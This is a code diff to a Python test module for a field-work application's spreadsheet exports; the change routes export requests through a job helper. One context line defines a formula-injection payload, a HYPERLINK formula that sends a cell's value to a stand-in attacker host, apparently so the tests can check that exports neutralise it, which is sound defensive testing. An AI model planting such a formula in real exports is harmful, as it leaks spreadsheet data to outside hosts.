@@ -14,6 +14,7 @@ from openpyxl import load_workbook
 
 from fieldwork.exports import TRACKING_COLUMNS, VISIT_COLUMNS
 from fieldwork.services import visit_create, weekly_tracking_record
+from tests.exports import exported as exported_via_job
 from tests.factories import EnterpriseFactory
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'
@@ -32,7 +33,7 @@ def typed_by_officers(cast):
 
 def exported(client, url_name) -> bytes:
     with time_machine.travel(EXPORTED_AT, tick=False):
-        response = client.get(reverse(f"fieldwork:{url_name}"))
+        response = exported_via_job(client, reverse(f"fieldwork:{url_name}"))
     assert response.status_code == 200
     return b"".join(response.streaming_content)
 
